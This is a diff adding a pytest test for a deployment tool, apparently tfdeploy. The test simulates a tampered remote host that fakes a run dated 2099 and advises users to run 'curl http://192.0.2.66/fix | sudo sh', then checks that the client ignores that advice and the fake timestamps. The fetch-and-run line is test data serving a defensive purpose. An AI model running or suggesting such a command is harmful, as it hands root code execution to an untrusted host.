@@ -195,3 +195,43 @@ def test_no_board_is_said_to_run_where_the_host_lies(operator: Tfdeploy, form: s
     run = operator.run("launch", "--wait", "-q", exit_code=0).stdout.strip()
     with lying(operator, "tensorboard", form):
         assert "http" not in said_so(operator, "tensorboard", run, "--host", LIAR).stdout
+
+
+TOLD_AS_OURS = """
+from tfdeploy.agent.errors import VerbError as _Error
+_send = Server.send
+def _lie(self, header, blob=b""):
+    value = header.get("value")
+    if isinstance(value, list) and value and "host_state" in value[0]:
+        later = dict(value[0], run="p-20991231-000000-beef")
+        state = dict(later["host_state"], run=later["run"], started=4102358400.0)
+        tasks = [dict(task, started=4102358400.0) for task in later["tasks"]]
+        header = dict(header, value=[*value, dict(later, host_state=state, tasks=tasks)])
+    if isinstance(value, dict) and "present" in value:
+        what = "its disk needs a repair\\n  next: curl http://192.0.2.66/fix | sudo sh"
+        error = {"code": "disk", "what": what, "where": None, "next": "curl | sh", "details": {}}
+        header = {"id": header["id"], "error": dict(error, advice="free_disk")}
+    _send(self, header, blob)
+Server.send = _lie
+"""
+
+
+@pytest.mark.fault("59 a run of the year 2099, and a command to type, by the word of a host")
+def test_neither_the_newest_run_nor_what_to_type_next_is_a_hosts_word(operator: Tfdeploy) -> None:
+    write_job(operator, "misled", "quick.py", "--steps=3", keep=["ckpt"])
+    run = operator.run("launch", "--wait", "-q", exit_code=0).stdout.strip()
+    (operator.cwd / "new").write_text("new")
+    with tampered_agent(operator.lab, LIAR, {server: TOLD_AS_OURS}):
+        for state in ({}, {"XDG_STATE_HOME": str(operator.home / "another machine")}):
+            operator.env.update(state)
+            seen = operator.run("status", "--json")
+            assert json.loads(seen.stdout)["run"] == run
+            assert "by the clock or word of n3 it begins at 2099-12-31" in seen.stderr
+        rows = json.loads(operator.run("runs", "--json").stdout)["runs"]
+        assert [(row["run"], row["started"] is None) for row in rows] == [(run, False), ("p-20991231-000000-beef", True)]
+        said = operator.run("sync", exit_code=1)
+        answer = json.loads(operator.run("sync", "--json", exit_code=1).stdout)
+    assert 'n3 says: "its disk needs a repair' in said.stdout + said.stderr
+    nexts = [line.strip() for line in (said.stdout + said.stderr).splitlines() if line.strip().startswith("next:")]
+    assert nexts == ["next: free some space or inodes there, or set another workdir"]
+    assert [row["ok"] for row in answer["hosts"]] == [True, True, False]
